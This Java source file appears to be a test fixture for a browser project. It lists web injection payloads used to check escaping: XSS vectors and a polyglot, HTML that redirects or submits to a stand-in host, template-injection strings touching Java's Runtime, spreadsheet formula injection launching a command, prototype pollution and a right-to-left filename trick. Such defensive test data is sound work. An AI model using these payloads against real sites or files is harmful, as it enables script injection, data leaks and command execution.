package id.tuntas.browser;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that would be something else than text where they are not written out with care. Each calls {@code ran} with its
 * number, asks for something elsewhere, or leaves an element with the attribute {@link #MARK}.
 */
final class Payloads {
    static final String MARK = "data-jahat";

    private static final List<String> TAGS = List.of(
            "<script>ran(1)</script>",
            "<img src=x onerror=ran(2) data-jahat>",
            "<svg onload=ran(3) data-jahat>",
            "\"><b data-jahat onmouseover=ran(4)>",
            "' autofocus onfocus=ran(5) data-jahat x='",
            "<a href=\"javascript:ran(7)\" data-jahat>x</a>",
            "</textarea><script>ran(8)</script>",
            "</title><img src=x onerror=ran(9) data-jahat>",
            "</script><script>ran(10)</script>",
            "<iframe srcdoc='<script>parent.ran(11)</script>' data-jahat></iframe>",
            "<details open ontoggle=ran(12) data-jahat>",
            "<math><mtext><img src=x onerror=ran(13) data-jahat></mtext></math>",
            "<!--<img src='--><img src=x onerror=ran(14) data-jahat>",
            "&lt;script&gt;ran(15)&lt;/script&gt;",
            "<div data-live='/live/home' data-live-asks='/live/home' data-jahat></div>",
            "<div hx-get='http://jahat.invalid/' hx-trigger='load' data-jahat></div>",
            "<div hx-on:load='ran(18)' data-jahat></div>",
            "<base href='http://jahat.invalid/' data-jahat>",
            "<meta http-equiv=refresh content='0;url=http://jahat.invalid/' data-jahat>",
            "<link rel=stylesheet href=http://jahat.invalid/x.css data-jahat>",
            "<style>@import 'http://jahat.invalid/y'</style>",
            "<form action=http://jahat.invalid/ data-jahat><button>x",
            "<template data-jahat><p id=isi></template>");
    private static final List<String> OTHERS = List.of(
            "javascript:ran(31)",
            "data:text/html,<script>ran(32)</script>",
            "[[${7*7}]] [(${7*7})] __${7*7}__::.x",
            "${T(java.lang.Runtime).getRuntime()} #{problem.internal.title} @{/x} *{x} ~{page/frame}",
            "<p th:text='${7*7}' th:utext='${7*7}' data-jahat>",
            "{{7*7}} {{constructor.constructor('ran(36)')()}}",
            "=HYPERLINK(\"http://jahat.invalid\",\"x\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "\u202Egnp.exe",
            "{\"__proto__\":{\"ran\":39}}",
            "null undefined NaN",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran(41) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
                    + "\\x3csVg/<sVg/oNloAd=ran(41) data-jahat>",
            "%3Cscript%3Eran(42)%3C/script%3E",
            "\\u003cscript\\u003eran(43)\\u003c/script\\u003e");

    private Payloads() {}

    static List<String> all() {
        List<String> all = new ArrayList<>(TAGS);
        all.addAll(OTHERS);
        return all;
    }

    /** All of them in one long text. */
    static String text() {
        return String.join("\n", all());
    }

    /** All of them, in as few texts of one line as this length allows; what is longer is cut. */
    static List<String> lines(int length) {
        List<String> lines = new ArrayList<>();
        StringBuilder line = new StringBuilder();
        for (String payload : all()) {
            String fits = payload.substring(0, Math.min(payload.length(), length));
            if (line.length() + fits.length() + 1 > length) {
                lines.add(line.toString());
                line.setLength(0);
            }
            line.append(line.isEmpty() ? "" : " ").append(fits);
        }
        lines.add(line.toString());
        return lines;
    }
}
